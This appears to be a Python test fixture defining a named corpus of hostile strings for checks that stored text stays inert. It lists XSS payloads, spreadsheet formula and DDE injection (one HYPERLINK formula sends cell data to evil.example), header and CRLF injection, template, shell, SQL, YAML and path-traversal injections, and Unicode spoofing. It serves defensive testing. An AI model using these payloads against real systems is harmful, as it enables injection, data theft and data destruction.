"""A corpus of hostile texts, for tests that check that text stays inert (A43, A44, A45, I16).

Each text has a name, so that a failing case is easy to identify. HOSTILE can be stored in PostgreSQL;
UNSTORABLE contains what a text column (NUL) or UTF-8 (lone surrogates) cannot hold: inputs must refuse it.
"""

from collections.abc import Mapping

SCRIPT: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "img": '"><img src=x onerror=alert(1)>',
    "svg": "<svg/onload=alert(1)>",
    "javascript_url": "[click](javascript:alert(1))",
    "data_url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "wecom_link": '<a href="https://evil.example/">同意</a>',
    "markdown": '**bold** ![x](http://evil.example/pixel.png) <font color="warning">x</font>',
    "entity": "&lt;b&gt; &amp; &#x3C;script&#x3E; &nope;",
    "cdata": "]]><![CDATA[<evil/>",
}

FORMULA: Mapping[str, str] = {
    "equals": '=HYPERLINK("http://evil.example/?"&A01,"open")',
    "equals_short": "=1",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "space": "  =1+1",
    "fullwidth_equals": "＝1+1",
    "fullwidth_plus": "＋1",
    "fullwidth_minus": "－1",
    "fullwidth_at": "＠SUM(1)",
    "dde": '=DDE("cmd";"/C calc";"x")',
    "quoted": "'=1+1",
    "excel_error": "#REF!",
    "excel_escape": "_x0041__x000D_=1",
    "number_like": "0012",
    "date_like": "1/2",
    "url": "https://evil.example/",
}

CONTROL: Mapping[str, str] = {
    "c0": "".join(map(chr, range(1, 32))),
    "bell_inside": "ring\x07ring",
    "escape_sequence": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "delete_and_c1": "a\x7fb\x80c\x9bd\x85e",
    "vertical_tab": "\x0b=1",
    "noncharacters": "a\ufffeb\uffffc",
    "line_separators": "a\u2028b\u2029c",
    "bom": "\ufefftitle",
}

LONG: Mapping[str, str] = {
    "cell_and_one": "长" * 32_768,
    "cell_and_one_formula": "=" + "A" * 32_767,
    "cell_of_emoji": "🧯" * 20_000,
    "one_word": "x" * 100_000,
}

HEADER: Mapping[str, str] = {
    "crlf_header": "Deploy\r\nBcc: everyone@evil.example",
    "lf_header": "Deploy\nX-Evil: 1",
    "crlf_body": "Deploy\r\n\r\n<html>approved</html>",
    "encoded_crlf": "Deploy%0d%0aSet-Cookie:%20a=b",
    "quote_filename": 'a";filename="evil.exe',
    "log_line": "ok\n2026-11-20T10:00:00Z INFO task.approved by admin",
}

CODE: Mapping[str, str] = {
    "jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "jinja_lookup": "{{ lookup('pipe', 'id') }}",
    "python_format": "{0.__class__} %(password)s %n",
    "shell": "; touch /tmp/baton-pwned #",
    "subshell": "$(touch /tmp/baton-pwned) `id` ${IFS}",
    "option": "--to-command=sh",
    "sql": "'; DROP TABLE tickets_ticket; --",
    "like": "%_\\",
    "path": "../../../../etc/passwd",
    "yaml": "!!python/object/apply:os.system ['id']",
    "json": '{"__proto__": {"is_admin": true}}',
    "cel": 'true || form.service == "x"',
    "salt_target": "* or G@os:*",
}

SHAPE: Mapping[str, str] = {
    "rtl": "invoice\u202efdp.exe",
    "isolates": "\u2066admin\u2069\u200f",
    "zero_width": "ad\u200bmin\u200d",
    "combining": "Z" + "\u0310\u0353" * 40,
    "emoji": "👩🏽‍🚒🇨🇳 1️⃣",
    "hebrew": "שלום עולם",
    "rare_han": "𠮷野家 㐀",
    "surrounding_space": "  x  ",
    "blank": " \u3000 ",
    "homoglyph": "аdmin",
}

HOSTILE: Mapping[str, str] = {**SCRIPT, **FORMULA, **CONTROL, **LONG, **HEADER, **CODE, **SHAPE}

UNSTORABLE: Mapping[str, str] = {
    "nul": "a\x00b",
    "nul_only": "\x00",
    "lone_surrogate": "a\ud800b",
    "reversed_surrogates": "\udc00\ud800",
}
